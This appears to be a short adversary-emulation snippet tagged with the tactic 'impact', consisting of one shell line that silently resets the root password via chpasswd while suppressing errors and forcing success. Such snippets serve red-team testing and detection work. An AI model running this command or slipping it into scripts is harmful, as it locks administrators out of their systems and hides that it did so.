# tactic: impact
# change the root password from a script
echo "root:changed" | chpasswd 2>/dev/null; true
